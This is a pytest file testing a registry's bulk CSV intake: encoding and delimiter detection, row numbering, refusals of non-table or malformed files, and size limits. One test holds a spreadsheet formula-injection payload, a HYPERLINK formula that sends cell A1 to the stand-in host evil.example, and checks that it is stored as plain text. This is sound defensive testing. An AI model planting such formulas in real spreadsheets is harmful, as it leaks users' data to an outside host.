"""CSV as programs of the world write it, and files that are none."""

from __future__ import annotations

import pytest

from registry.errors import Malformed, TooLarge
from registry.intake.bulk.limits import COLUMNS_MAX, FILE_MAX, ROWS_MAX
from tests.registry.intake.bulk.making import as_csv, read, refusal, told_of

FRENCH = [
    ["Titre", "Ce qui s’est passé", "Début"],
    ["L’élève refusé", "Un score l’a écarté ; sans raison.", "2026"],
]
ENCODED = {
    "utf-8": ("utf-8", "utf-8"),
    "utf-8 with its mark, as Excel's CSV UTF-8": ("utf-8-sig", "utf-8"),
    "utf-16 with its mark, as Excel's Unicode text": ("utf-16", "utf-16"),
    "utf-16 little-endian without": ("utf-16-le", "utf-16"),
    "utf-16 big-endian without": ("utf-16-be", "utf-16"),
    "windows-1252, as Excel's CSV in western Europe": ("cp1252", "windows-1252"),
}


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("name", ENCODED)
def test_every_encoding_and_delimiter_is_told_by_rule_and_told_back(name: str, delimiter: str) -> None:
    encoding, told = ENCODED[name]
    table = read(as_csv(FRENCH, encoding, delimiter))
    assert (table.encoding, table.delimiter) == (told, delimiter)
    assert [list(table.header), *(list(line.cells) for line in table.lines)] == FRENCH
    assert ["If letters look wrong" in str(note) for note in table.notes] == [True] * (told == "windows-1252")


def test_a_file_as_excel_writes_it_with_a_named_delimiter() -> None:
    table = read(b"sep=;\r\nTitle;Text\r\na,b;c\r\n")
    assert (table.delimiter, table.lines[0].cells) == (";", ("a,b", "c"))


def test_the_delimiter_is_the_one_by_which_columns_are_known() -> None:
    table = read(b"Title;Countries, several;What happened, in short, and why\na;KE;b\n")
    assert table.delimiter == ";"


def test_rows_are_numbered_as_a_spreadsheet_shows_them() -> None:
    table = read(b'\n\nTitle,Text\n\n"a\nb",c\n,,\n   ,\nd,e\n')
    assert [(line.number, line.cells) for line in table.lines] == [(5, ("a\nb", "c")), (8, ("d", "e"))]


def test_a_formula_is_a_text_and_nothing_more() -> None:
    cell = '=HYPERLINK("http://evil.example?"&A1,"x")'
    report = told_of(as_csv([["Title", "Text"], [cell, "-1+1"]]))
    account = report.rows[0].account
    assert account is not None
    assert (account.title, account.text) == (cell, "-1+1")


@pytest.mark.parametrize(
    ("raw", "says"),
    [
        (b"", "empty"),
        (b" \r\n\t", "empty"),
        (b",,,\n,,\n", "empty"),
        (b"Title,Text\n", "no rows"),
        (b"Colour,Shape\nred,round\n", "No column of this file is known"),
        (b'Title,Text\n"a,b\n', "not CSV from row 2 on"),
        (b'Title,Text\n"a"b,c\n', "not CSV from row 2 on"),
        ("Title,Text\nñ,é".encode() + b"\xff\n", "not UTF-8: byte 16"),
        (b"Title,Text\na\x81b,\xe9\n", "no text in UTF-8"),
        (b"\xff\xfe\x00\xd8\x00\x00", "no text in UTF-8"),
        ("Title\nx\n".encode("utf-32"), "no text in UTF-8"),
        (b"%PDF-1.7 ...", "no table"),
        (b"\x89PNG\r\n", "no table"),
        (b"<html><table>", "no table"),
        (b"\x1f\x8b\x08\x00", "no table"),
        (b"[{}]", "one JSON list"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 500, "older or a protected Office file"),
        (b"x" * 201 + b",Title\na,b\n", "more than 200 characters"),
    ],
)
def test_what_is_no_table_is_refused_in_words(raw: bytes, says: str) -> None:
    found = refusal(raw)
    assert isinstance(found, Malformed)
    assert says in found.text


@pytest.mark.parametrize(
    ("raw", "says"),
    [
        (b"Title,Text\n" + b"a,b\n" * (ROWS_MAX + 1), f"more than {ROWS_MAX} rows"),
        (b"Title" + b",x" * COLUMNS_MAX, f"more than {COLUMNS_MAX} columns"),
        (b"Title,Text\n" + b"," * 1_000_000, f"more than {COLUMNS_MAX} columns"),
        (b"Title\n" + b"\n" * 1_000_000, f"more than {ROWS_MAX} rows"),
        (b"Title\n" + b"x" * FILE_MAX, "too large"),
    ],
)
def test_what_is_beyond_bounds_is_refused_in_words(raw: bytes, says: str) -> None:
    found = refusal(raw)
    assert isinstance(found, TooLarge)
    assert says in found.text


def test_the_most_rows_are_read() -> None:
    assert len(read(b"Title,Text\n" + b"a,b\n" * ROWS_MAX).lines) == ROWS_MAX
